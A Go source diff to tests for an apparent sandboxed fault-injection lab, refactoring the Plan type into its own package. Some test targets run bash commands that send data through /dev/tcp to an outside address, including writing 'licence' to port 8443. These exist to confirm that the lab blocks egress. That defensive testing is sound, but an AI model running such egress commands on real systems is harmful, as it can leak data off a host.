@@ -12,6 +12,7 @@ import (
 
 	"github.com/stormdrill/stormdrill/faults/secret"
 	"github.com/stormdrill/stormdrill/scenarios"
+	"github.com/stormdrill/stormdrill/scenarios/plan"
 	"github.com/stormdrill/stormdrill/scenarios/timeline"
 )
 
@@ -24,7 +25,7 @@ const outside = "198.19.255.7"
 // switchboard, is counted by its name and dropped.
 func TestLabLetsNothingOut(t *testing.T) {
 	const run = "00000000000000b1"
-	l, err := open(t, "bad-lb-node", run, func(p *scenarios.Plan) {
+	l, err := open(t, "bad-lb-node", run, func(p *plan.Plan) {
 		p.Nodes[0].Spec = &scenarios.Target{
 			Image:   "stormdrill-test/base:debian",
 			Command: []secret.Text{"bash", "-c", `for i in 1 2; do timeout 1 bash -c "echo > /dev/tcp/` + outside + `/443" || echo "no way out"; done; echo tried; exec sleep 600`},
@@ -69,7 +70,7 @@ func TestLabLetsNothingOut(t *testing.T) {
 // A target that is not ready in time is told with what it tried to reach outside.
 func TestLabSaysWhatATargetTried(t *testing.T) {
 	const run = "00000000000000b5"
-	_, err := open(t, "bad-lb-node", run, func(p *scenarios.Plan) {
+	_, err := open(t, "bad-lb-node", run, func(p *plan.Plan) {
 		p.Nodes[0].Spec = &scenarios.Target{
 			Image:   "stormdrill-test/base:debian",
 			Command: []secret.Text{"bash", "-c", "echo licence > /dev/tcp/" + outside + "/8443"},
@@ -96,7 +97,7 @@ func bare(capabilities []string) (all []string) {
 // no raw sockets; nothing is published.
 func TestLabNodesMayDoNoMore(t *testing.T) {
 	const run = "00000000000000b3"
-	l, err := open(t, "bad-lb-node", run, func(p *scenarios.Plan) {
+	l, err := open(t, "bad-lb-node", run, func(p *plan.Plan) {
 		p.Nodes[0].Spec = &scenarios.Target{Image: "stormdrill-test/base:debian", Command: []secret.Text{"sleep", "600"}}
 		p.Nodes[0].Ready = nil
 	})
